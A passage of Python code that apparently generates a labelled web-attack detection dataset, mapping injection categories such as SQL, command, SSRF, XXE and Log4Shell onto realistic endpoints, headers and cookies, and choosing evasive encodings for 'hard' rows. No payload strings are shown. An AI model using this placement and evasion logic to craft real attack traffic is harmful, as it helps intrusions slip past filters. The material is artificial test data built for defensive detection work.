                q={"redirect": "/dashboard"},
                b={"password": "Winter2026!", "remember_me": "1"},
            ),
            C(
                "/api/reports/sales",
                "region",
                q={"from": "2026-11-01", "to": "2026-11-30"},
                b={"from": "2026-11-01", "to": "2026-11-30", "format": "json"},
            ),
            C("/api/v1/customers/lookup", "id", q={"fields": "id,name,email"}),
            C("/api/inventory/items", "warehouse_id", q={"sku": "BK-20931"}, b={"sku": "BK-20931", "qty": "12"}),
            C("/api/v3/articles", "tag", q={"lang": "en", "per_page": "20"}),
            C("/api/tickets", "assignee", q={"priority": "high"}, b={"subject": "Printer offline", "priority": "high"}),
            C("/api/v1/invoices/export", "tenant", q={"format": "csv"}),
            C("/api/v2/catalog/filter", "price_max", q={"brand": "Nordlys"}),
            C("/account/profile", "nickname", b={"timezone": "Europe/Berlin"}, method="PATCH"),
            C(
                "/ws/CustomerService.asmx",
                "CustomerId",
                xmltpl=soap("GetCustomer", "crm-v2"),
                xctype="text/xml; charset=utf-8",
            ),
        ],
        hdr=["X-Forwarded-For", "User-Agent", "Referer", "X-Tenant-ID", "X-Client-Id", "X-Device-Id"],
        ck=["uid", "cart_id", "lang", "tracking_id", "store", "pref_currency"],
        ptpl=[
            "/api/v1/products/{}",
            "/api/v2/orders/{}/items",
            "/api/v1/users/{}/profile",
            "/reports/{}.csv",
            "/api/v1/categories/{}",
        ],
        qk=["filter[{}]", "sort[{}]", "{}", "fields[{}]"],
        jk=["sort", "filter", "fields", "where"],
        terse_fields=["id", "q", "user", "cat", "item", "page_id"],
        pref={"query": 4, "json": 3, "form": 3, "cookie": 2, "header": 2, "path": 1},
    ),
    "cmdi": dict(
        real=[
            C("/api/v1/tools/ping", "host", q={"count": "3"}, b={"count": "3"}),
            C("/api/network/traceroute", "target", q={"max_hops": "20"}),
            C("/api/v2/domains/whois", "domain", q={"format": "json"}),
            C("/api/media/convert", "filename", b={"format": "webp", "quality": "80"}),
            C("/api/images/resize", "size", q={"id": "img_5521"}, b={"image_id": "img_5521"}),
            C("/admin/backup/run", "database", b={"compress": "true", "target": "s3"}),
            C("/api/ci/repos/import", "repo_url", b={"branch": "main", "shallow": "true"}),
            C("/cgi-bin/diag.cgi", "ip", q={"action": "nslookup"}),
            C("/api/printers/jobs", "printer", b={"copies": "2", "duplex": "true"}),
            C("/api/devices/firmware/check", "hostname", q={"model": "RT-AX58U"}),
            C("/api/v1/reports/pdf", "title", b={"template": "monthly", "locale": "en"}),
            C("/api/ssh/test-connection", "host", b={"port": "22", "user": "deploy"}),
        ],
        hdr=["User-Agent", "X-Forwarded-For", "X-Hostname", "Referer", "X-Backup-Target"],
        ck=["theme", "region", "backup_host", "lang"],
        ptpl=["/api/v1/tools/ping/{}", "/cgi-bin/lookup.cgi/{}", "/api/media/{}/thumbnail", "/api/dns/{}"],
        qk=["{}", "opts[{}]"],
        jk=["env", "options", "args"],
        terse_fields=["cmd", "ip", "host", "exec", "q", "ping"],
        mp_fn=0.35,
        pref={"query": 3, "json": 3, "form": 3, "header": 2, "multipart": 2, "path": 2},
    ),
    "code_injection": dict(
        real=[
            C(
                "/api/v1/sheets/formula/evaluate",
                "expression",
                b={"sheet_id": "sh_4410", "cell": "C7"},
                q={"sheet": "sh_4410"},
            ),
            C("/api/rules/validate", "condition", b={"rule_name": "vip-discount", "priority": "5"}),
            C("/api/calc", "expr", q={"precision": "2"}, b={"precision": "2"}),
            C("/api/v2/reports/custom-field", "code", b={"report_id": "rep_118", "name": "margin"}),
            C("/api/workflows/steps/test", "script", b={"workflow_id": "wf_77", "step": "transform"}),
            C("/api/v1/pricing/preview", "discount_formula", b={"sku": "BK-3341"}),
            C("/api/plugins/settings", "callback", b={"plugin": "seo-tools"}, q={"plugin": "seo-tools"}),
            C("/api/notebook/cells/run", "source", b={"kernel": "python3", "cell_id": "c12"}),
            C("/api/v1/templates/render", "sort_func", q={"list": "products"}),
            C("/api/jobs/schedule", "handler", b={"cron": "*/5 * * * *", "queue": "default"}),
            C("/api/v1/debug/eval", "input", b={"session": "dbg-22"}),
        ],
        hdr=["X-Expression", "X-Formula", "X-Debug-Eval", "User-Agent", "X-Script"],
        ck=["prefs", "state", "calc", "view_state"],
        ptpl=["/api/calc/{}", "/api/v1/eval/{}", "/formula/{}/result"],
        qk=["{}", "fn[{}]"],
        jk=["computed", "formulas", None],
        terse_fields=["code", "expr", "eval", "q", "input", "e"],
        pref={"json": 4, "query": 3, "form": 3, "multipart": 2, "xml": 1, "header": 2},
    ),
    "php_injection": dict(
        real=[
            C("/index.php", "page", q={"lang": "en"}, b={"lang": "en"}),
            C("/view.php", "file", q={"mode": "preview"}),
            C("/wp-admin/admin-ajax.php", "template", q={"action": "load_template"}, b={"action": "load_template"}),
            C("/modules/report.php", "inc", q={"id": "44"}),
            C("/api/v1/profile/import", "data", b={"format": "serialized"}),
            C("/account/preferences.php", "prefs", b={"save": "1"}),
            C("/upload/avatar.php", "caption", b={"user_id": "5102"}, mpfile=TXT_FILES[0]),
            C("/cms/pages/save", "content", b={"page_id": "88", "status": "draft"}),
            C("/download.php", "f", q={"token": "a91c7f"}),
            C("/api/cart/restore", "cart", b={"source": "cookie"}),
        ],
        hdr=["User-Agent", "Referer", "X-Forwarded-For", "Accept-Language", "X-Theme"],
        ck=["session_data", "prefs", "remember", "cart"],
        ptpl=["/index.php/{}", "/include/{}", "/view.php/{}"],
        qk=["{}"],
        jk=["settings", "meta", None],
        terse_fields=["page", "file", "inc", "data", "q", "p"],
        terse_paths=["/index.php", "/page.php", "/include.php", "/"],
        pref={"query": 5, "cookie": 3, "multipart": 3, "form": 2, "header": 2},
    ),
    "java_injection": dict(
        real=[
            C("/struts2-showcase/index.action", "redirectAction", q={"lang": "en"}),
            C("/api/v1/search", "q", q={"page": "0", "size": "20"}, b={"page": "0"}),
            C("/functionRouter", "input", b={"id": "1"}),
            C("/api/actuator/gateway/routes/r1", "predicate", b={"uri": "http://orders:8080"}, method="POST"),
            C("/app/jsf/profile.xhtml", "displayName", b={"javax.faces.ViewState": "-4471212381:33881"}),
            C("/api/workflow/conditions", "expression", b={"workflow": "approve-invoice"}),
            C("/api/v2/import/json", "payload", b={"source": "partner-feed"}),
            C("/api/config/datasource/test", "url", b={"username": "sa", "driver": "org.h2.Driver"}),
            C("/api/rules/engine/evaluate", "rule", b={"ruleset": "pricing"}),
            C("/api/v1/users/register", "email", b={"name": "Dana", "plan": "pro"}),
            C("/api/messages/validate", "message", b={"channel": "email"}),
            C(
                "/services/OrderService",
                "orderRef",
                xmltpl=soap("placeOrder", "orders"),
                xctype="text/xml; charset=utf-8",
            ),
        ],
        hdr=["spring.cloud.function.routing-expression", "User-Agent", "X-Expression", "Referer", "X-Forwarded-For"],
        ck=["locale", "theme", "lang", "route"],
        ptpl=["/{}/", "/pages/{}", "/api/v1/expressions/{}", "/struts/{}.action"],
        qk=["{}"],
        jk=["attributes", None, "bindings"],
        terse_fields=["expr", "q", "name", "input", "redirect"],
        terse_paths=["/", "/index.action", "/login.action", "/api/test"],
        pref={"query_key": 2, "json": 3, "header": 2, "xml": 3, "query": 3, "path": 2},
    ),
    "rfi": dict(
        real=[
            C("/index.php", "page", q={"lang": "en"}),
            C("/main.php", "module", q={"action": "view"}),
            C("/portal/content.php", "include", q={"id": "12"}),
            C("/templates/load.php", "template", b={"preview": "1"}),
            C("/site/index.php", "lang", q={"section": "news"}),
            C("/cms/render", "theme", q={"page": "about"}, b={"page": "about"}),
            C("/wiki/index.php", "skin", q={"title": "Main_Page"}),
            C("/app/view.jsp", "url", q={"layout": "wide"}),
            C("/plugins/loader.php", "plugin", b={"enable": "1"}),
            C("/gallery/show.php", "path", q={"album": "2026"}),
        ],
        hdr=["Accept-Language", "X-Template", "X-Include", "Referer"],
        ck=["lang", "template", "theme", "skin"],
        ptpl=["/index.php/{}", "/load/{}", "/include/{}"],
        qk=["{}", "conf[{}]"],
        jk=["includes", "modules", None],
        terse_fields=["page", "file", "include", "inc", "path", "mod"],
        terse_paths=["/index.php", "/", "/page.php", "/main.php"],
        pref={"query": 8, "form": 3, "json": 2, "cookie": 2},
    ),
    "ssrf": dict(
        real=[
            C("/api/v1/webhooks", "url", b={"events": "order.created", "secret": "whsec_" + "x" * 8}),
            C("/api/v2/link-preview", "url", q={"maxwidth": "600"}),
            C("/api/users/me/avatar/import", "image_url", b={"crop": "square"}),
            C("/api/v1/feeds", "feed_url", b={"refresh_minutes": "30"}),
            C("/api/pdf/render", "source_url", b={"format": "A4", "landscape": "false"}),
            C("/proxy", "url", q={"cache": "1"}),
            C("/api/integrations/test", "endpoint", b={"type": "rest", "method": "GET"}),
            C("/api/v1/import/csv", "remote_url", b={"delimiter": ","}),
            C("/api/oembed", "url", q={"format": "json"}),
            C("/api/media/fetch", "src", q={"w": "320"}),
            C("/api/sso/metadata/fetch", "metadata_url", b={"provider": "okta"}),
            C(
                "/services/ImageService",
                "imageUrl",
                xmltpl=soap("FetchImage", "media"),
                xctype="text/xml; charset=utf-8",
            ),
        ],
        hdr=["X-Callback-Url", "X-Webhook-Target", "Referer", "X-Image-Url", "X-Forwarded-Host"],
        ck=["avatar_src", "feed", "return_to", "proxy_target"],
        ptpl=["/proxy/{}", "/api/v1/fetch/{}", "/image-proxy/{}"],
        qk=["{}"],
        jk=["feeds", "mirrors", None],
        penc="std",
        terse_fields=["url", "uri", "target", "dest", "u", "link"],
        pref={"json": 5, "query": 5, "form": 2, "xml": 2, "multipart": 1},
    ),
    "ssti": dict(
        real=[
            C("/api/v1/notifications/templates/preview", "body", b={"channel": "email", "locale": "en"}),
            C("/api/profile", "display_name", b={"timezone": "UTC"}, method="PATCH"),
            C("/api/v2/invoices/custom-footer", "footer", b={"invoice_id": "inv_3310"}),
            C("/greeting", "name", q={"lang": "en"}),
            C("/api/marketing/campaigns", "subject_line", b={"list_id": "lst_91", "send_at": "2026-12-10T09:00:00Z"}),
            C("/api/v1/pages/render", "title", q={"slug": "about-us"}, b={"slug": "about-us"}),
            C("/api/support/macros", "reply_text", b={"macro": "refund-approved"}),
            C("/api/v1/certificates/generate", "recipient", b={"course_id": "crs_55"}),
            C("/api/orders/gift-message", "message", b={"order_id": "ord_7781"}),
            C("/api/v1/error-pages", "html", b={"status": "404"}),
        ],
        hdr=["User-Agent", "X-Display-Name", "Referer", "X-Greeting", "Accept-Language"],
        ck=["display_name", "greeting", "nickname", "lang"],
        ptpl=["/hello/{}", "/api/v1/preview/{}", "/u/{}"],
        qk=["{}", "vars[{}]"],
        jk=["variables", "labels", None],
        terse_fields=["name", "tpl", "q", "msg", "greeting"],
        pref={"json": 4, "form": 3, "query": 3, "header": 2, "multipart": 2, "xml": 1},
    ),
    "crlf": dict(
        real=[
            C("/auth/logout", "redirect", q={"reason": "timeout"}),
            C("/set-language", "lang", q={"return": "/"}, b={"return": "/"}),
            C("/oauth/authorize", "redirect_uri", q={"client_id": "web-app", "response_type": "code"}),
            C("/api/v1/exports/download", "filename", q={"id": "exp_1181"}, b={"export_id": "exp_1181"}),
            C("/go", "url", q={"src": "newsletter"}),
            C("/api/v1/cors/allowed-origins", "origin", b={"app_id": "app_31"}),
            C("/login", "next", q={"sso": "0"}, b={"email": "j.smith@corpmail.net", "password": "Passw0rd!"}),
            C("/api/v2/audit/log", "username", b={"action": "login"}),
            C("/api/v1/redirects", "target", b={"code": "302", "source": "/promo"}),
        ],
        hdr=["X-Forwarded-Host", "X-Redirect-To", "Referer", "X-Forwarded-Proto", "X-Lang"],
        ck=["lang", "return_url", "locale", "next"],
        ptpl=["/{}", "/r/{}", "/redirect/{}", "/lang/{}"],
        qk=["{}"],
        jk=["headers", "response_headers", None],
        terse_fields=["next", "url", "q", "lang", "r"],
        pref={"query": 6, "path": 3, "cookie": 2, "json": 2, "header": 2},
    ),
    "mail_injection": dict(
        real=[
            C("/contact", "email", b={"name": "Dana Whitfield", "message": "Please call me back about my order."}),
            C("/api/v1/newsletter/subscribe", "email", b={"list": "weekly", "consent": "true"}, q={"list": "weekly"}),
            C(
                "/api/support/tickets",
                "subject",
                b={"email": "dana@corpmail.net", "body": "My invoice total looks wrong."},
            ),
            C("/api/v1/invitations", "to", b={"role": "viewer", "workspace": "ws_1120"}),
            C("/share/email", "recipient", q={"doc": "d_8812"}, b={"doc": "d_8812", "note": "FYI"}),
            C("/api/v1/password/forgot", "email", b={"locale": "en"}),
            C("/contact-us.php", "name", b={"email": "kim@corpmail.net", "comments": "Hi there"}),
            C("/webmail/api/folders/select", "mailbox", b={"account": "acc_1"}),
            C("/api/v2/orders/receipt/resend", "reply_to", b={"order_id": "ord_5510"}),
            C("/feedback", "from", b={"rating": "4", "text": "Nice app"}),
        ],
        hdr=["From", "X-Reply-To", "X-Notify-Email", "X-Sender"],
        ck=["newsletter_email", "reply_to", "contact"],
        ptpl=["/api/v1/subscribers/{}", "/unsubscribe/{}", "/share/{}/email"],
        qk=["{}", "to[{}]"],
        jk=["headers", "recipients", None],
        terse_fields=["email", "to", "from", "subject"],
        pref={"form": 6, "json": 5, "query": 2, "multipart": 2},
    ),
    "ldapi": dict(
        real=[
            C("/login", "username", b={"password": "Summer2026!"}),
            C("/api/directory/search", "q", q={"ou": "people", "limit": "25"}, b={"ou": "people"}),
            C("/api/v1/users/lookup", "uid", q={"attrs": "cn,mail"}),
            C("/api/groups/members", "group", q={"include_nested": "true"}),
            C("/api/v2/address-book", "name", q={"dept": "sales"}, b={"dept": "sales"}),
            C("/sso/ldap/auth", "user", b={"pass": "x8!pQz", "domain": "CORP"}),
            C("/api/v1/employees/phone", "cn", q={"site": "berlin"}),
            C("/api/v1/password/reset-request", "login", b={"channel": "email"}),
            C(
                "/services/Directory",
                "Account",
                xmltpl=soap("FindAccount", "directory"),
                xctype="text/xml; charset=utf-8",
            ),
        ],
        hdr=["X-Remote-User", "X-Auth-User", "X-Forwarded-User", "X-User-Dn"],
        ck=["ldap_user", "username", "dir_group"],
        ptpl=["/api/directory/users/{}", "/people/{}", "/api/v1/groups/{}/members"],
        qk=["{}", "filter[{}]"],
        jk=["filter", "attributes", None],
        terse_fields=["user", "uid", "cn", "q", "login"],
        pref={"form": 4, "query": 4, "json": 3, "header": 2, "xml": 2},
    ),
    "xss": dict(
        real=[
            C("/search", "q", q={"page": "1"}, accept=ACCEPT_HTML[0]),
            C("/api/v1/comments", "body", b={"post_id": "p_7712", "parent": ""}),
            C("/api/profile", "bio", b={"display_name": "Ash"}, method="PATCH"),
            C("/api/v2/products/reviews", "title", b={"rating": "5", "product_id": "BK-2291"}),
            C("/error", "message", q={"code": "400"}, accept=ACCEPT_HTML[1]),
            C("/api/v1/links", "url", b={"label": "Docs"}),
            C("/api/helpdesk/tickets", "description", b={"subject": "Cannot log in", "priority": "normal"}),
            C("/api/chat/messages", "text", b={"room": "general"}),
            C("/oauth/callback", "error_description", q={"error": "access_denied"}, accept=ACCEPT_HTML[0]),
            C("/api/v1/events", "name", b={"starts_at": "2026-12-12T18:00:00Z", "venue": "Hall B"}),
            C("/jsonp/stats", "callback", q={"v": "2"}),
        ],
        hdr=["User-Agent", "Referer", "X-Forwarded-For", "X-Display-Name", "Accept-Language"],
        ck=["username", "last_search", "theme", "flash_msg"],
        ptpl=["/search/{}", "/u/{}", "/tags/{}", "/p/{}/comments"],
        qk=["{}", "utm[{}]"],
        jk=["labels", "meta", None],
        terse_fields=["q", "s", "name", "msg", "search", "callback"],
        mp_fn=0.25,
        pref={"query": 4, "json": 3, "form": 3, "multipart": 2, "path": 1, "header": 2},
    ),
    "path_traversal": dict(
        real=[
            C("/api/v1/files/download", "path", q={"inline": "false"}),
            C("/download", "file", q={"token": "dl_8821"}),
            C("/api/v2/reports/template", "template", q={"format": "pdf"}, b={"format": "pdf"}),
            C("/api/docs/view", "doc", q={"version": "3"}),
            C("/api/v1/logs/tail", "logfile", q={"lines": "200"}),
            C("/static/img", "name", q={"w": "400"}),
            C("/api/v1/themes/preview", "layout", b={"theme": "autumn"}),
            C("/api/attachments/open", "filename", b={"ticket": "T-5512"}),
            C("/api/backup/restore", "archive", b={"dry_run": "true"}),
            C("/index.php", "lang", q={"page": "home"}),
        ],
        hdr=["X-File-Path", "Accept-Language", "X-Template", "X-Original-URL", "X-Rewrite-URL"],
        ck=["template", "lang", "layout", "download_dir"],
        ptpl=["/api/v1/files/{}", "/static/{}", "/download/{}", "/assets/{}/raw", "/api/docs/{}"],
        qk=["{}", "files[{}]"],
        jk=["files", "entries", None],
        penc="slash",
        terse_fields=["file", "path", "doc", "f", "template", "name"],
        mp_fn=0.6,
        pref={"query": 4, "path": 5, "multipart": 2, "json": 2, "cookie": 1, "header": 1},
    ),
    "nosqli": dict(
        real=[
            C("/api/auth/login", "password", b={"username": "admin"}, q={"username": "admin"}),
            C("/api/v1/users", "filter", q={"limit": "20"}),
            C("/api/v1/products/search", "name", b={"in_stock": True}, q={"in_stock": "true"}),
            C("/api/accounts/reset", "token", b={"email": "ops@corpmail.net"}),
            C("/api/v2/orders/query", "where", b={"limit": 50}),
            C("/api/v1/sessions/verify", "session_id", b={"device": "ios"}),
            C("/api/posts", "author", q={"sort": "-created"}),
            C("/api/v1/reports/aggregate", "pipeline", b={"collection": "orders"}),
            C("/api/v1/couch/_find", "selector", b={"limit": 10}),
        ],
        hdr=["X-User-Filter", "X-Tenant", "X-Session-Query", "X-Api-Filter"],
        ck=["session", "user_filter", "auth"],
        ptpl=["/api/v1/users/{}", "/api/items/{}", "/api/posts/by/{}"],
        qk=["{}"],
        jk=["filter", "query", None],
        terse_fields=["user", "q", "filter", "id", "where"],
        pref={"json": 7, "query_key": 4, "query": 2, "cookie": 2},
    ),
    "xxe": dict(
        real=[
            C("/api/v1/orders/import", "document", b={"source": "erp"}),
            C("/soap/OrderService", "xml", b={"action": "submit"}),
            C("/api/v2/feeds/validate", "feed", b={"type": "rss"}),
            C("/api/saml/acs", "SAMLResponse", b={"RelayState": "/dashboard"}),
            C("/api/v1/uploads/svg", "svg", b={"folder": "brand"}),
            C("/api/invoices/ubl", "ubl", b={"partner": "acme-gmbh"}),
            C("/api/v1/config/import", "config", b={"overwrite": "false"}),
            C("/xmlrpc.php", "payload", b={}),
        ],
        hdr=["X-Xml-Config", "X-Soap-Payload", "X-Metadata"],
        ck=["prefs_xml", "state", "saml_state"],
        ptpl=["/api/v1/xml/parse/{}", "/render/{}"],
        qk=["{}"],
        jk=["documents", None],
        terse_fields=["xml", "data", "doc", "payload", "body"],
        mp_ct="application/xml",
        pref={"xml": 10, "multipart": 3, "json": 1, "form": 1},
    ),
    "log4shell": dict(
        real=[
            C("/api/v1/login", "username", b={"password": "hunter2!"}),
            C("/search", "q", q={"page": "1"}),
            C("/api/v2/events", "message", b={"level": "info", "service": "checkout"}),
            C("/api/v1/support/chat", "text", b={"session": "chat_5512"}),
            C("/api/products/reviews", "title", b={"rating": "3"}),
            C("/solr/admin/cores", "action", q={"wt": "json"}),
            C("/api/v1/devices/register", "device_name", b={"platform": "android", "os_version": "15"}),
            C("/vsphere-client/api/settings", "locale", q={"ui": "h5"}),
            C("/api/v1/payments/notify", "reference", b={"amount": "19.99", "currency": "EUR"}),
        ],
        hdr=[
            "User-Agent",
            "X-Api-Version",
            "Referer",
            "X-Forwarded-For",
            "Accept-Language",
            "X-Correlation-Id",
            "X-Forwarded-Host",
        ],
        ck=["tracking", "lang", "session_hint", "ab_bucket"],
        ptpl=["/api/v1/users/{}", "/search/{}", "/{}"],
        qk=["{}"],
        jk=["attributes", "tags", None],
        terse_fields=["q", "x", "user", "search", "name"],
        pref={"header": 8, "query": 2, "json": 2, "form": 1, "cookie": 2},
    ),
}

TERSE_PATHS = ["/", "/test", "/api/test", "/search", "/index.php", "/vuln", "/api/echo", "/app", "/debug", "/page"]
TERSE_HDRS = ["User-Agent", "X-Forwarded-For", "Referer", "X-Api-Version", "X-Test", "X-Custom-Header"]
TERSE_CK = ["id", "q", "test", "session", "data"]


def make_ctx(cat, pl, terse, it):
    spec = CTX[cat]
    if terse:
        path = R.choice(spec.get("terse_paths", TERSE_PATHS))
        field = R.choice(spec["terse_fields"])
        ctx = {
            "path": path,
            "field": field,
            "q": {},
            "b": {},
            "hdr": R.choice(TERSE_HDRS + spec["hdr"][:2]),
            "ck": R.choice(TERSE_CK + spec["ck"][:1]),
            "ptpl": R.choice(["/{}", path.rstrip("/") + "/{}", "/api/{}"]),
            "qk": "{}",
            "jk": None,
            "root": R.choice(["root", "request", "data", field]),
        }
        if cat == "path_traversal":
            ctx["penc"] = R.choice(["slash", "std"])
        if R.random() < 0.3:
            ctx["qmethod"] = "GET"
        ctx["method"] = "POST"
    else:
        ctx = dict(R.choice(spec["real"]))
        ctx["hdr"] = R.choice(spec["hdr"])
        ctx["ck"] = R.choice(spec["ck"])
        ctx["ptpl"] = R.choice(spec["ptpl"])
        ctx["qk"] = R.choice(spec["qk"])
        ctx["jk"] = R.choice(spec["jk"])
        if "penc" in spec:
            ctx["penc"] = spec["penc"]
        if "xmltpl" in ctx and pl != "xml":
            ctx.pop("xmltpl")
        if R.random() < 0.35:
            ctx["mpfile"] = R.choice(TXT_FILES)
    if cat == "path_traversal" and pl == "path" and ctx.get("penc") == "slash" and R.random() < 0.5:
        ctx["penc"] = "std"
    if it.only and "query_key" in it.only:
        ctx["qk"] = "{}"
    if it.qkval is not None:
        ctx["qk_val"] = fill(it.qkval)
    if it.noval:
        ctx["noval"] = True
    if it.qbody:
        ctx["qbody"] = it.qbody
    if it.jkval is not None or (it.only and it.only == {"json_key"}):
        ctx["jk_val"] = it.jkval
        key = it.s()
        if key in ("$where", "$or", "$expr"):
            ctx["jk"] = None if terse or R.random() < 0.5 else "filter"
        else:
            ctx["jk"] = ctx["field"] if not terse else R.choice(["password", "username", "email"])
    if pl == "xml" and it.doc:
        ctx["doc"] = True
    if cat == "xxe" and pl == "multipart" and not it.mp:
        ctx["mpmode"] = "content"
        ctx["mpfn"] = R.choice(["import.xml", "orders.xml", "feed.rss", "invoice-2026-11.xml", "metadata.xml"])
        ctx["mpct"] = spec.get("mp_ct", "application/xml")
        ctx["mpname"] = R.choice(["file", "document", "upload"])
    elif pl == "multipart" and it.mp:
        mode, a, ct = it.mp
        if mode == "content":
            ctx.update(mpmode="content", mpfn=a, mpct=ct, mpname=R.choice(["file", "upload", "attachment"]))
        else:
            ctx.update(
                mpmode="filename", mpname=a, mpct=ct, mpcontent=R.choice(["x", "test", "PK placeholder", "hello"])
            )
    elif pl == "multipart" and R.random() < spec.get("mp_fn", 0) and fits_filename(it.s()):
        ctx.update(
            mpmode="filename",
            mpname=R.choice(["file", "upload", "attachment", "image"]),
            mpct=R.choice(["application/octet-stream", "image/png", "text/plain"]),
            mpcontent=R.choice(["test", "hello world", "placeholder"]),
        )
    return ctx


def fits_filename(s):
    return '"' not in s and "\r" not in s and "\n" not in s and "\x00" not in s and len(s) < 200


def item_fits(it, pl):
    # judge the item as it will look once the placeholders are filled in
    s = it.s().replace("§A", "a.example-cb.net").replace("§IP", "203.0.113.1").replace("§T", "corp-target.com")
    if it.only is not None and pl not in it.only:
        return False
    if pl in it.no:
        return False
    if it.raw:
        # double / overlong / %u encodings only make sense where a URL decoder runs
        if pl not in URLISH:
            return False
        if any(c in s for c in ' &#;"\\,') or not all(0x20 < ord(c) < 0x7F for c in s):
            return False
    if not isinstance(it.v, str) and pl not in ("json", "query", "form", "cookie", "multipart"):
        return False
    if pl == "header":
        return header_ok(s) and len(s) < 3000
    if pl == "xml":
        if not xml_ok_chars(s):
            return False
    if pl in ("query_key", "json_key") and len(s) > 600:
        return False
    if pl == "multipart" and it.mp and it.mp[0] == "filename" and not fits_filename(s):
        return False
    if pl == "path" and len(s) > 1500:
        return False
    return True


EVASIVE = {"full", "mixed", "uesc", "charref", "raw"}


def choose_enc(it, pl):
    if it.raw:
        return "raw" if pl in URLISH else "std"
    r = R.random()
    if pl in URLISH:
        if r < 0.15:
            return "full"
        if r < 0.30:
            return "mixed"
        return "std"
    if pl in ("json", "json_key"):
        return "uesc" if r < 0.28 else "std"
    if pl == "xml":
        return "charref" if r < 0.25 else ("cdata" if r < 0.45 else "esc")
    return "std"


SEEN = set()


def add_row(rows, label, cat, req, pl, hard, raw=False, novalidate=False, doc=False):
    method, path, query, headers, body, payload = req
    key = (label, cat, method, path, query, body, pl, payload)
    if key in SEEN:
        return False
    row = {
        "id": None,
        "label": label,
        "category": cat,
        "method": method,
        "path": path,
        "query": query,
        "headers": headers,
        "body": body,
        "placement": pl,
        "payload": payload,
        "hard": bool(hard),
        "source": SOURCE,
    }
    try:
        validate(row, raw=raw, novalidate_xml=novalidate, doc=doc)
    except RowError as e:
        raise RowError("%s in %r" % (e, row))
    SEEN.add(key)
    rows.append(row)
    return True


def gen_attack_category(cat, items, n=45, n_terse=18):
    spec = CTX[cat]
    pls = PLACEMENTS * 3
    for p, k in spec["pref"].items():
        pls += [p] * k
    assert len(pls) == n, (cat, len(pls))
    R.shuffle(pls)
    terse = [True] * n_terse + [False] * (n - n_terse)
    R.shuffle(terse)
    slots = list(zip(pls, terse))
    # most constrained placements first so that specialised items get used
    rank = {"header": 0, "query_key": 1, "json_key": 2, "xml": 3, "path": 4, "cookie": 5}
    order = sorted(range(n), key=lambda i: (rank.get(slots[i][0], 9), i))
    used = set()
    out = [None] * n
    for i in order:
        pl, t = slots[i]
        for attempt in range(60):
            cands = [j for j, it in enumerate(items) if item_fits(it, pl) and j not in used]
            if not cands:
                cands = [j for j, it in enumerate(items) if item_fits(it, pl)]
            if not cands:
                raise RuntimeError("no item for %s/%s" % (cat, pl))
            special = [j for j in cands if items[j].only]
            j = R.choice(special) if special and R.random() < 0.7 else R.choice(cands)
            it = items[j]
            ctx = make_ctx(cat, pl, t, it)
            enc = choose_enc(it, pl)
            host = pick_host()
            value = fill(it.v, base_domain(host))
            req = build(pl, value, ctx, terse=t, enc=enc, host=host)
            hard = it.hard or enc in EVASIVE
            tmp = []
            if add_row(
                tmp,
                "attack",
                cat,
                req,
                pl,
                hard,
                raw=(enc == "raw"),
                novalidate=it.novalidate,
                doc=bool(ctx.get("doc")),
            ):
                out[i] = tmp[0]
                used.add(j)
                break
        else:
            raise RuntimeError("could not make unique row for %s/%s" % (cat, pl))
    return out


# ===========================================================================
# benign side
# ===========================================================================


def B(v, hard=False, only=None, **x):
    it = Item(v, hard=hard, only=only)
    it.x = x
    return it


BODY = {"json", "form", "multipart", "xml"}
URLP = {"query", "path"}

# ---- benign_api_json: generated nested API payloads -----------------------
SKUS = ["BK-1001", "BK-2044", "MO-TR2-NVY-10", "QF-PEN-0.5", "KF-PALLET-EU", "CL-MUG-350", "TG-NODE-S", "SM-TOUR-LIS"]
CITIES = [
    ("Berlin", "DE", "10115"),
    ("Lyon", "FR", "69002"),
    ("Austin", "US", "78701"),
    ("Osaka", "JP", "530-0001"),
    ("Porto", "PT", "4050-001"),
    ("Gdansk", "PL", "80-001"),
    ("Leeds", "GB", "LS1 4AP"),
    ("Utrecht", "NL", "3511 AB"),
]
STREETS = [
    "Hauptstr. 12",
    "5 Rue Mercière",
    "1200 Congress Ave",
    "2-4-1 Umeda",
    "Rua das Flores 88",
    "ul. Długa 7",
    "14 Park Row",
    "Oudegracht 201",
]


def money(lo=100, hi=99999):
    return R.randint(lo, hi)


def gen_order():
    city, cc, zipc = R.choice(CITIES)
    items = []
    for _ in range(R.randint(1, 4)):
        items.append(
            {
                "sku": R.choice(SKUS),
                "quantity": R.randint(1, 5),
                "unit_price": {"amount": money(199, 25999), "currency": R.choice(["EUR", "USD", "GBP"])},
            }
        )
    return {
        "customer_id": "cus_" + alnum(14),
        "currency": items[0]["unit_price"]["currency"],
        "items": items,
        "shipping": {
            "method": R.choice(["standard", "express", "pickup"]),
            "address": {"line1": R.choice(STREETS), "city": city, "postal_code": zipc, "country": cc},
        },
        "metadata": {
            "channel": R.choice(["ios", "android", "web", "pos"]),
            "campaign": R.choice(["bf-2026", "none", "xmas-26"]),
        },
        "created_at": iso_ts(),
    }, False


def gen_user_update():
    return {
        "data": {
            "type": "users",
            "id": str(R.randint(1000, 99999)),
            "attributes": {
                "display_name": R.choice(["Dana W.", "Li Wei", "Sofia R.", "Tom K."]),
                "locale": R.choice(["de-DE", "en-GB", "ja-JP", "fr-FR"]),
                "notifications": {"email": R.choice([True, False]), "sms": False, "push": True},
                "roles": R.sample(["viewer", "editor", "billing", "admin"], R.randint(1, 2)),
            },
        }
    }, False


def gen_event_batch():
    evs = []
    for _ in range(R.randint(2, 4)):
        evs.append(
            {
                "event": R.choice(["page_view", "add_to_cart", "checkout_started", "search"]),
                "ts": iso_ts(),
                "anonymous_id": uuid4(),
                "props": {
                    "path": R.choice(["/", "/cart", "/products/trail-runner-2", "/search"]),
                    "referrer": R.choice(["", "https://www.google.com/", "https://news.ycombinator.com/"]),
                    "value": round(R.random() * 200, 2),
                },
            }
        )
    return {
        "batch": evs,
        "sent_at": iso_ts(),
        "context": {"library": {"name": "analytics.js", "version": "5.2.1"}},
    }, True


def gen_webhook():
    return {
        "id": "evt_" + alnum(24),
        "type": R.choice(["invoice.payment_succeeded", "customer.subscription.updated", "charge.refunded"]),
        "created": epoch(),
        "livemode": False,
        "api_version": "2026-10-28",
        "data": {
            "object": {
                "id": "in_" + alnum(24),
                "amount_paid": money(),
                "currency": "eur",
                "lines": {"data": [{"description": "Pro plan (Dec 2026)", "amount": money()}]},
            }
        },
    }, False


def gen_flags():
    return {
        "flags": [
            {
                "key": R.choice(["new-checkout", "dark-mode", "search-v2"]),
                "enabled": True,
                "rollout": {"percentage": R.choice([5, 25, 50]), "seed": R.randint(1, 999)},
                "rules": [
                    {"attribute": "country", "operator": "in", "values": R.sample(["DE", "AT", "CH", "FR", "US"], 2)},
